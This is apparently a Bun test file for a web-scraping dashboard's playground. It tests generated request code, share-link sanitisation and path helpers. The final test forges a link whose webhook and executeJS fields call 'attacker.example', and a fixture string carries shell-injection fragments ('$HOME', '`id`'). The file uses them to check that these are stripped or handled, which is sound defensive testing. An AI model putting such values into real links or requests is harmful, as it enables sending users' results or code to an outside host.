import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { valueAt, withValue } from '../../../plugins/dashboard/app/pages/playground/form/paths.ts'
import { requestCode } from '../../../plugins/dashboard/app/pages/playground/request-code.ts'
import { linkOf, readLink } from '../../../plugins/dashboard/app/pages/playground/shared-link.ts'

const body = {
  url: "https://example.com/?q=it's",
  formats: ['markdown'],
  onlyMainContent: true,
  useProxy: false,
  nothing: null,
  empty: {},
  options: { text: '"quoted" $HOME `id` \\ \n ü \u2028', deep: [{ one: 1.5 }, []] },
}

let folder: string
let sent: { path: string; key: string | null; body: unknown }[]
let server: ReturnType<typeof Bun.serve>
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'dashboard-code-'))
  sent = []
  server = Bun.serve({
    hostname: '127.0.0.1',
    port: 0,
    async fetch(request) {
      const { pathname } = new URL(request.url)
      sent.push({ path: pathname, key: request.headers.get('authorization'), body: await request.json() })
      return Response.json({ success: true, data: {} })
    },
  })
  // The requests of the program through this package, by Python's own library.
  writeFileSync(
    join(folder, 'httpx.py'),
    `import json, urllib.request
class Answer:
    def __init__(self, text): self.text = text
    def json(self): return json.loads(self.text)
def post(url, headers, json, timeout):
    data = __import__("json").dumps(json).encode()
    request = urllib.request.Request(url, data, {**headers, "Content-Type": "application/json"})
    return Answer(urllib.request.urlopen(request, timeout=timeout).read())
`,
  )
})
afterAll(() => {
  server.stop(true)
  rmSync(folder, { recursive: true })
})

async function run(command: string[]): Promise<string> {
  const env = { ...process.env, WEIR_API_KEY: 'wr_test', PYTHONPATH: folder }
  const child = Bun.spawn(command, { env, stdout: 'pipe', stderr: 'pipe' })
  const said = await new Response(child.stderr).text()
  return (await child.exited) === 0 ? '' : said
}

describe('the code of a request sends that request', () => {
  const codeOf = (id: string) => requestCode(server.url.origin, '/v1/scrape', body).find((one) => one.id === id)!.text
  const file = (name: string, text: string) => {
    writeFileSync(join(folder, name), text)
    return join(folder, name)
  }
  const commands: Record<string, () => string[] | undefined> = {
    curl: () => (Bun.which('curl') ? ['sh', '-c', codeOf('curl')] : undefined),
    typescript: () => [process.execPath, file('request.ts', codeOf('typescript'))],
    python: () => (Bun.which('python3') ? ['python3', file('request.py', codeOf('python'))] : undefined),
  }
  for (const [id, command] of Object.entries(commands))
    test(id, async () => {
      const given = command()
      if (!given) return console.log(`skipped: no ${id} here`)
      expect(await run(given)).toBe('')
      expect(sent.pop()).toEqual({ path: '/v1/scrape', key: 'Bearer wr_test', body })
    }, 120_000)
})

describe('a link', () => {
  test('has the request without private values', () => {
    const values = {
      url: 'https://example.com/?a=1&b=2#c',
      headers: { cookie: 'secret' },
      options: { authentication: { password: 'secret' }, maxPages: 5 },
      scrapeOptions: { actions: [{ type: 'type', text: 'secret' }] },
    }
    const link = linkOf(values)
    expect(decodeURIComponent(link)).not.toContain('secret')
    expect(readLink(link)).toEqual({ url: values.url, options: { maxPages: 5 }, scrapeOptions: {} })
    expect(linkOf({})).toBe('')
    // A server would refuse the page with it.
    expect(linkOf({ url: values.url, prompt: 'ä'.repeat(2000) })).toBe('')
  })

  test('that is invalid has no effect', () => {
    for (const search of ['', '?body=', '?body=%7B', '?body=1', '?body=null', '?body=[]'])
      expect(readLink(search)).toBeUndefined()
  })
})

test('a value is set at a path, and removed together with groups that become empty', () => {
  const values = withValue({ url: 'x' }, 'options.maxPages', 5)
  expect(values).toEqual({ url: 'x', options: { maxPages: 5 } })
  expect(valueAt(values, 'options.maxPages')).toBe(5)
  expect(valueAt(values, 'options.constructor')).toBeUndefined()
  expect(withValue(values, 'options.maxPages', undefined)).toEqual({ url: 'x' })
  expect(withValue(values, 'url.deeper', 1)).toEqual({ url: { deeper: 1 }, options: { maxPages: 5 } })
})

test('a link that somebody wrote cannot send results elsewhere, or bring code or credentials', () => {
  const forged = {
    url: 'https://example.com/',
    webhook: 'https://attacker.example/',
    executeJS: 'fetch("https://attacker.example/")',
    headers: { cookie: 'a=b' },
    scrapeOptions: { actions: [{ type: 'click', selector: 'button' }], authentication: {}, onlyMainContent: true },
  }
  expect(readLink(`?${new URLSearchParams({ body: JSON.stringify(forged) })}`)).toEqual({
    url: 'https://example.com/',
    scrapeOptions: { onlyMainContent: true },
  })
})
